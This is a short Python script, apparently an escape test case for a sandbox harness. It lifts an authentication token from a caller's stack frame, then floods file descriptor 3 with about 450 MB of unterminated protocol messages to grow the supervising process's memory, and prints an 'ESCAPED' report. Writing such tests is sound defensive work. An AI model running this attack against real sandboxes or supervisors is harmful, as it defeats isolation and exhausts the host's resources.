# escape: messages of many kinds that never end grow the caller
# reports: anything
import os, sys
frame, token = sys._getframe(), None
while frame and token is None:
    if isinstance(frame.f_locals.get("token"), bytes):
        token = frame.f_locals["token"]
    frame = frame.f_back
sent = 0
for kind in range(256):
    if bytes([kind]) in b"RP":
        continue
    for _ in range(30):
        os.write(3, token + bytes([kind]) + b"+" + b"x" * 60_000)
        sent += 60_000
print("ESCAPED: %d MB were taken" % (sent >> 20))
